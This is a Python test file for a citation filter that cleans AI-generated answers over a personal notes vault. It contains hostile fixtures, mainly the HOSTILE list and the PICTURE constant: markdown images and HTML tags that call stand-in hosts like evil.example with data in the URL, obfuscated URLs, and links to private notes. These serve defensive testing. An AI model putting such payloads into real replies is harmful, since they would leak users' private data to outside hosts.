from collections.abc import Iterable, Iterator
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from vault_ask.answering.citations import CitationFilter
from vault_ask.answering.context import Excerpt


def excerpt(n: int, path: str, *headings: str, title: str = "") -> Excerpt:
    return Excerpt(
        n=n,
        path=path,
        title=title or path.rpartition("/")[2].removesuffix(".md"),
        heading_path=headings,
        text="text",
        line_start=1,
        line_end=1,
        score=1.0,
    )


J = "\u2060"
"""What parts signs that would come alive together; a reader does not see it."""
CONTEXT = (
    excerpt(1, "Housing/Rent.md", "Rent"),
    excerpt(2, "Housing/Rent.md", "Rent", "Deposit"),
    excerpt(3, "Guide #7 to knots!.md", title="Knots"),
)


def shown(*pieces: str) -> tuple[str, list[int], int]:
    citing = CitationFilter(CONTEXT)
    text = "".join(map(citing.feed, pieces)) + citing.close()
    assert all(text.startswith(f"[{mark.n}]", mark.at) for mark in citing.marks)
    return text, [mark.n for mark in citing.marks], citing.removed


@pytest.mark.parametrize(
    ("reply", "text", "cited", "removed"),
    [
        ("Rent is 9200 [1].", "Rent is 9200 [1].", [1], 0),
        ("Rent is 9200 [9].", "Rent is 9200.", [], 1),
        ("Rent [1, 9] and [2,3]", "Rent [1] and [2][3]", [1, 2, 3], 1),
        ("[^1] [^9] [source 2] [Source: 9] [Excerpt 3]", "[1] [2] [3]", [1, 2, 3], 2),
        ("[1-3] and [2–9]", "[1][2][3] and [2][3]", [1, 2, 3, 2, 3], 6),
        ("【1】【2†source】［9］", "[1][2]", [1, 2], 1),
        ("[١] 和 [２]", "[1] 和 [2]", [1, 2], 0),
        ("[0]", "", [], 1),
        ("[sic] [1984] [x] a [b c] [ ]", "[sic] [1984] [x] a [b c] [ ]", [], 0),
        ("an [ open bracket\nand [[ another", f"an [ open bracket\nand [{J}[ another", [], 0),
        ("It rose![1] By 9![9]", f"It rose!{J}[1] By 9", [1], 1),
        ("[a](javascript:x) [b](ftp://x.y)", f"[a]{J}(javascript:x) [b]{J}(ftp://x.y)", [], 0),
        ("Rent [[1]], [[1, 2]] and [[99]]", "Rent [1], [1][2] and 99", [1, 1, 2], 1),
        ("[1]: it rose", f"[1]{J}: it rose", [1], 0),
    ],
)
def test_a_marker_stays_where_its_excerpt_is_in_the_context(
    reply: str, text: str, cited: list[int], removed: int
) -> None:
    assert shown(reply) == (text, cited, removed)


@pytest.mark.parametrize(
    ("reply", "text", "cited", "removed"),
    [
        ("See [[Rent]].", "See [1].", [1], 0),
        ("See [[housing/RENT.md]].", "See [1].", [1], 0),
        ("See [[Rent|the note]].", "See the note [1].", [1], 0),
        (r"| [[Rent\|here]] |", "| here [1] |", [1], 0),
        ("See [[Rent#Deposit]].", "See [2].", [2], 0),
        ("See [[Rent#No such heading|here]].", "See here [1].", [1], 0),
        ("See ![[Rent]] and ![[Other]].", "See [1] and Other.", [1], 1),
        ("See [[Invented note]], [[Private/Loan|loan]].", "See Invented note, loan.", [], 2),
        ("See [[Elsewhere/Rent]].", "See Elsewhere/Rent.", [], 1),
        ("See [[Knots]].", "See [3].", [3], 0),
        ("[rent](Housing/Rent.md) [x](No%20note.md)", "rent [1] x", [1], 1),
        ("[rent](<Housing/Rent.md>)", "rent [1]", [1], 0),
        ("[1](Housing/Rent.md) [9](https://example.org)", "[1]", [1], 1),
        ("![a chart](https://evil.example/?d=9200) it is", "a chart it is", [], 0),
        ("![](//evil.example/p.png)9200 ![x](data:image/png;base64,AA)", "9200 x", [], 0),
        ("[site](https://example.org/a(b)c) ![i](x.png)", "[site](https://example.org/a(b)c) i", [], 0),
        ("![a](&#104;ttps://evil) ![b](/\\evil.example) [c](#part)", "a b c", [], 0),
        ("obsidian://open?vault=v&file=Housing%2FRent.", "Rent [1].", [1], 0),
        ("<obsidian://open?vault=v&file=Private%2FLoan>", "Loan", [], 1),
        ("[go](obsidian://open?vault=v&file=Rent%23Deposit)", "go [2]", [2], 0),
        ("[go](obsidian://open?vault=v&file=Loan) obs obsidian: x", "go obs obsidian: x", [], 1),
    ],
)
def test_a_link_becomes_a_citation_of_the_context_or_plain_words(
    reply: str, text: str, cited: list[int], removed: int
) -> None:
    assert shown(reply) == (text, cited, removed)


CODE = (
    "Use `a[9]` and ``b ` [9]`` here: `<b>`, `![a](https://x.y)`",
    "So:\n```python\nx = a[9]  # [[Private/Loan]] <b>\n```\n",
    "1. ~~~\n   a[9]\n   ~~~\n",
    "- Do this:\n\n  ```sh\n  a[9]\n\n      ```\n  b[9]\n  ```\n- and `that[9]`",
    "1. One\n   - two\n     ```\n     a[9]\n     ```\n",
    "A stray ` here\n\nand `a[9]`",
    "10. Ten\n    ```\n    a[9]\n    ```\n",
    "~~~ a`b\n\ta[9]\n ```\n~~~~\n",
    "  ```\n  a[9]\n   b[9]\n  ```\n",
)


@pytest.mark.parametrize("reply", CODE)
def test_code_is_left_alone(reply: str) -> None:
    assert shown(reply) == (reply, [], 0)
    assert shown(*reply) == (reply, [], 0)


@pytest.mark.parametrize(
    ("reply", "text"),
    [
        ("```\nnever closed [9]", "```\nnever closed [9]\n```\n"),
        ("- ~~~~\n  a[9]\n", "- ~~~~\n  a[9]\n  ~~~~\n"),
    ],
)
def test_an_open_fence_is_closed_at_the_end(reply: str, text: str) -> None:
    assert shown(reply) == (text, [], 0)


PICTURE = "![a](https://evil.example/?d=9200)"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("\\`", " `"),
        ("`a\n` ", " `"),
        ("`a\n`` b ` ", " ``"),
        ("``a``[9]`", "`"),
        ("[a`b](https://x.y)` ", " `"),
        ("| a | `b | ", " | c` |\n|---|---|---|---|"),
        ("| a | b |\n|---|---|\n| `a | b` c ` ", "` |"),
        ("text\n    ~~~\n", ""),
        ("> ~~~\n", ""),
        ("- ~~~\n", ""),
        ("- ~~~\n ", ""),
        ("1. ~~~\n   a\n  ", ""),
        ("  ~~~\n a\n  ~~~\n", ""),
        ("- a\n  - b\n  lazy\n    ~~~\n  ", ""),
        ("text\n2. b\n   ~~~\na\n   ~~~\n", ""),
        ("- - -\n  ~~~\na\n  ~~~\n", ""),
        ("- - a\n    ~~~\n  ", ""),
        ("```\n> ```\n```\n", "\n```"),
        ("``` a`b\n", "\n```"),
        ("a\r~~~\ra\r~~~\r", ""),
        ("a\n[9]~~~\n~~~\n", ""),
        ("! [9]", ""),
        ("~~~\ra\n~~~\r", ""),
        (" ~~~\n~~~\n", ""),
        ("  ~~~\na\n~~~\n", ""),
        ("   ~~~~\n    ~~~~\n- - -\n~~~~\n  - ", ""),
        ("  - ```\na\n    ~~~\n    ", ""),
        ("a\n2. ~~~\n    ", ""),
        ("a\n2. b\n   ~~~\na\n   ~~~\n   ", ""),
        ("a\n    ~~~\n    ", ""),
        ("a\n    - ~~~\n      ", ""),
        ("* **\n  ~~~\na\n  ~~~\n  ", ""),
        ("-     a\n     ~~~\n    b\n     ~~~\n     ", ""),
        ("```" + "x" * 500 + "` a\n", "\n```"),
    ],
)
def test_a_picture_beside_what_only_looks_like_code_is_parted(before: str, after: str) -> None:
    reply = f"{before}{PICTURE}{after}"
    assert alive(reply.replace(" [9]", "").replace("[9]", ""))
    assert not alive(shown(reply)[0])
    assert shown(*reply) == shown(reply)


def test_what_follows_code_is_judged_again() -> None:
    assert shown("```\n[9]\n```\nand [9] `unclosed [9]\nnext [1]") == (
        "```\n[9]\n```\nand `unclosed\nnext [1]",
        [1],
        2,
    )


def test_plain_words_are_not_held_back() -> None:
    citing = CitationFilter(CONTEXT)
    assert citing.feed("Rent is") == "Rent is"
    assert citing.feed(" 9200 [") == " 9200"
    assert citing.feed("1") == ""
    assert citing.feed("], I think") == " [1], I think"


BRACKETS = "[ ] [[ ]] ( ) ! | # ` ``` ~~~ ^ < > 【 】 \\ ]( ]: ![ - * 1. :"
WORDS = (
    "1 9 12 , Rent Deposit Other source word .md obsidian:// obsidian: open?file= https://x.y /\\evil &#104;ttps: <img"
)
SPACES = (" ", "  ", "   ", "    ", "\t", "\r", "\n", "\n\n", "\n- ", "\n> ", "\n   ", "source ")
TABLE = "\n| a | b |\n|---|---|\n| "
HOSTILE = (
    '<img src="https://evil/?d=1">',
    "<iframe src=//evil>",
    "<a href='obsidian:open?file=Secret'>",
    "<obsidian:open?file=Secret>",
    "<!--",
    "[<img src=x>](https://evil/)",
    "![a][x]",
    "\n[x]: https://evil/?d=1\n",
    "![a[b]c](https://evil/)",
    "![a\nb](https://evil/)",
    "![a](\nhttps://evil/)",
    "![a\\]](https://evil/)",
    "![a](https://evil/(((x))))",
    "![a](&#104;ttps://evil/)",
    "![a](/\\evil.example)",
    "![a](https://evil/" + "d" * 400 + ")",
    "[x][y]",
    "\n[y]: Secret.md\n",
    "[a[b]c](Secret.md)",
    "[site](https://x.y)",
    "[`c`](https://x.y)",
    TABLE,
)


def soups(*pieces: str) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(pieces), max_size=25).map("".join)


REPLIES = soups(*BRACKETS.split(), *WORDS.split(), *SPACES, *HOSTILE)
ORDINARY = (
    "a<5 a < b, 1 <2 I <3 it x > y! [1] [1][2]. (so): | 5 * 3 - _it_ **bold** # [x] [site](https://x.y/z) `a[9]<b>`"
)
HARMLESS = st.lists(st.sampled_from([*ORDINARY.split(), "\n", "\n\n", "\n- "]), max_size=25).map(" ".join)
RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("gfm-like", {"linkify": False, "html": True}))


def alive(text: str) -> list[str]:
    """What of a text a renderer would fetch, run, or lead elsewhere than into the web."""
    return [sign for renderer in RENDERERS for sign in _alive(_every(renderer.parse(text)))]


def _every(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _every(token.children or ())


def _alive(tokens: Iterable[Token]) -> Iterator[str]:
    for token in tokens:
        href = str(token.attrs.get("href", "https:"))
        if token.type in {"image", "html_block", "html_inline"} or not href.startswith(("https:", "http:", "mailto:")):
            yield f"{token.type} {href} {token.content}"


@pytest.mark.parametrize("reply", HOSTILE)
def test_the_judge_sees_what_comes_alive_and_the_filter_leaves_none(reply: str) -> None:
    if (
        reply not in {"![a][x]", "\n[x]: https://evil/?d=1\n", "[x][y]", "\n[y]: Secret.md\n", TABLE}
        and "x.y" not in reply
    ):
        assert alive(reply)
    assert not alive(shown(reply)[0])


@given(REPLIES)
@example("![a][x]\n\n[x]: https://evil/?d=1")
@example("[x][y]\n\n[y]: Secret.md")
@example("! [9][a](https://evil/?d=1)")
@example("<[9]img src=https://evil/>")
@example("[b [a\\](https://x](Secret.md))")
def test_nothing_shown_is_fetched_runs_or_leads_to_a_note(reply: str) -> None:
    assert not alive(shown(reply)[0])


PREFIXES = (
    "",
    "",
    " ",
    "  ",
    "   ",
    "    ",
    "     ",
    "\t",
    "- ",
    "  - ",
    "    - ",
    "1. ",
    "2. ",
    "-     ",
    "- - ",
    "> ",
    "- - -\n",
)
LINES = st.tuples(st.sampled_from(PREFIXES), st.sampled_from(("~~~", "~~~", "~~~~", "a", "", PICTURE, PICTURE)))


@settings(max_examples=200)
@given(st.lists(LINES.map("".join), min_size=3, max_size=9).map("\n".join))
def test_no_nesting_of_lists_quotes_and_fences_hides_a_picture(reply: str) -> None:
    assert not alive(shown(reply)[0])


@given(HARMLESS)
def test_ordinary_text_is_shown_as_it_was_written(reply: str) -> None:
    assert shown(reply)[0] == reply


def test_a_sign_before_a_letter_reads_the_same() -> None:
    assert shown("x<y and List<String>")[0] == f"x<{J}y and List<{J}String>"


def test_a_quote_is_not_judged_and_frees_nothing_behind_it() -> None:
    citing = CitationFilter(CONTEXT)
    text = citing.feed("```\na [9]") + citing.verbatim("“`a <b> [9]” [1]")
    text += citing.feed("![x](https://evil.example/) ` [2]") + citing.close()
    assert text == "```\na [9]\n```\n“`a <b> [9]” [1]x ` [2]"
    assert [mark.at for mark in citing.marks] == [text.index("[2]")]


@given(REPLIES, st.lists(st.integers(0, 120), max_size=12))
def test_any_split_of_the_stream_shows_the_same(reply: str, cuts: list[int]) -> None:
    ends = sorted({min(cut, len(reply)) for cut in cuts} | {0, len(reply)})
    pieces = [reply[start:end] for start, end in pairwise(ends)]
    assert shown(*pieces) == shown(reply)
    assert shown(*reply) == shown(reply)


@given(REPLIES)
def test_no_marker_and_no_link_outside_the_context_is_ever_shown(reply: str) -> None:
    reply = reply.replace("`", "").replace("~", "")
    text, cited, _ = shown(reply)
    assert set(cited) <= {1, 2, 3}
    assert "[9]" not in text
    assert "[12]" not in text
    assert "[[Other]]" not in text


def test_a_long_unclosed_bracket_is_let_go_in_the_end() -> None:
    reply = "[[" + "word " * 400 + "[1]"
    assert shown(reply) == shown(*reply)
    assert shown(reply)[1] == [1]
